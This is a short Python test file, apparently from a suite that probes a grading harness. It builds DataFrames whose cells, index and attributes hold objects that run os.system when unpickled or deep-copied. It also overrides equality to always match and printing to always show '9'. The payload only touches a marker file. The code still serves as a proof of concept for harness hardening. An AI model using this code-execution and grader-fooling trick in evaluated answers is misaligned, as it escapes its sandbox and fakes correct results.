"""Answers with tables whose cells, attributes, index and column names run code when they are copied or unpickled.

naive: a command run in the grading process, as tables travel as pickles.
lab: frames
answers: own
reached: poisoned: True
"""
# %%
import os, pickle
import pandas as pd
class Poison:
    def __reduce__(self):
        return os.system, ("touch /tmp/escaped-by-frame",)
    def __deepcopy__(self, memo):
        return os.system("touch /tmp/escaped-by-frame-copy")
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 1
    __str__ = __repr__ = lambda self: "9"
def d2(d):
    made = pd.DataFrame({"x": d.x.tolist(), "square": [Poison() for _ in d.x]}, index=pd.Index([Poison() for _ in d.x], dtype=object))
    made.attrs = {"poison": Poison()}
    made.columns.name = "columns"
    return made
print("poisoned:", b"system" in pickle.dumps(d2(pd.DataFrame({"x": [1, 2]}))))
